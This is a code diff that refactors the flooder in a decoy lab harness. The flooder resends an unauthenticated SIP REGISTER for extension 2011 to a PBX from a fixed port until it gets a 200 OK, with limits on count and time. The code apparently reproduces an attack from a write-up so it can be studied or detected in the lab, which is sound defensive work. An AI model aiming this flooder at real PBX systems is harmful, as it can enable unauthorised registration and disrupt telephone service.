@@ -106,24 +106,15 @@ class DecoyLab:
         )
 
     def flood(self, *, limit: int = 200, interval: float = 0.02, deadline: float = 10.0) -> ToolRun:
-        """The write-up's flooder: the same unauthenticated REGISTER from one fixed source
-        port, resent until a 200 OK for it comes back (bounded in count and time)."""
+        """The write-up's flooder against the decoy (see ``flood``)."""
         self.take_count()
         sock = self.attacker.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        sock.bind((ATTACKER, 5182))
-        sock.settimeout(interval)
-        msg = flood_register(ATTACKER, 5182, PBX)
         t0 = time.monotonic()
-        sent, conclusion = 0, f"gave up after {limit} requests"
         try:
-            while sent < limit and time.monotonic() - t0 < deadline:
-                sock.sendto(msg, (PBX, SIP_PORT))
-                sent += 1
-                with contextlib.suppress(TimeoutError):
-                    reply, _ = sock.recvfrom(65535)
-                    if reply.startswith(b"SIP/2.0 200 ") and b"Call-ID: 3361196543" in reply:
-                        conclusion = f"got 200 OK after {sent} requests: stopped"
-                        break
+            sock.bind((ATTACKER, FLOOD_PORT))
+            _, conclusion = flood(
+                sock, (PBX, SIP_PORT), limit=limit, interval=interval, seconds=deadline
+            )
         finally:
             sock.close()
         return ToolRun(
@@ -135,6 +126,46 @@ class DecoyLab:
             0,
             "",
         )
+
+
+FLOOD_PORT = 5182  # the flooder's one fixed source port
+FLOOD_CALL_ID = b"Call-ID: 3361196543"
+
+
+def flood(
+    sock: socket.socket,
+    pbx: tuple[str, int],
+    *,
+    limit: int = 200,
+    interval: float = 0.02,
+    seconds: float = 10.0,
+) -> tuple[int, str]:
+    """The write-up's flooder on a bound socket: the same unauthenticated REGISTER, sent
+    every ``interval`` until a 200 OK for it comes back (bounded in count and time).
+    Returns (requests sent, what it concluded)."""
+    src = sock.getsockname()
+    msg = flood_register(src[0], src[1], pbx[0])
+    t0 = time.monotonic()
+    sent = 0
+    while sent < limit and time.monotonic() - t0 < seconds:
+        sock.sendto(msg, pbx)
+        sent += 1
+        if _liked(sock, t0 + sent * interval):
+            return sent, f"got its 200 OK after {sent} requests: stopped"
+    return sent, f"gave up after {sent} requests"
+
+
+def _liked(sock: socket.socket, until: float) -> bool:
+    """Read answers until ``until`` (monotonic): was one of them the 200 it wants?"""
+    while (left := until - time.monotonic()) > 0:
+        sock.settimeout(left)
+        try:
+            reply, _ = sock.recvfrom(65535)
+        except TimeoutError:
+            return False
+        if reply.startswith(b"SIP/2.0 200 ") and FLOOD_CALL_ID in reply:
+            return True
+    return False
 
 
 def flood_register(src: str, port: int, dst: str) -> bytes:
@@ -149,7 +180,7 @@ def flood_register(src: str, port: int, dst: str) -> bytes:
         f'To: "2011" <sip:2011@{dst}>\r\n'
         "Contact: sip:123@1.1.1.1\r\n"
         "CSeq: 1 REGISTER\r\n"
-        "Call-ID: 3361196543\r\n"
+        f"{FLOOD_CALL_ID.decode()}\r\n"
         "Max-Forwards: 70\r\n\r\n"
     ).encode()
 
